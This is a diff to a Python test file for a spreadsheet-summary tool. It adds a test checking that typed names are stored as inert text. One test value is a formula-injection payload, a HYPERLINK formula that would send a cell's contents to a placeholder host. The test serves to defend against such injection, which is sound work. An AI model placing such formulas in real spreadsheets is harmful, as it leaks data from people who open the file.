@@ -423,3 +423,15 @@ def test_an_existing_round_folder_is_refused_before_anything_is_read(
     with pytest.raises(OutputError, match="finnes fra før") as refused:
         next_round.make_round([sample], catalogues, catalogues["tsb"])
     assert "runde-2026-T3" in str(refused.value)
+
+
+def test_the_summary_keeps_typed_names_as_inert_text(tmp_path: Path) -> None:
+    """Unit and HF names reach the summary as text: no formula, no character a cell cannot hold."""
+    from statuskart.workbook.round_summary import write_round_summary
+
+    row = ('=HYPERLINK("https://x.invalid/?u="&C2)', "HF\x07", "Enhet", "", "", "f.xlsx", 3, 1, "")
+    path = tmp_path / "oversikt.xlsx"
+    write_round_summary([row], path)
+    cell_a, cell_b = openpyxl.load_workbook(path).active["A2":"B2"][0]
+    assert cell_a.data_type == "s" and cell_a.value == row[0]
+    assert cell_b.value == "HF "
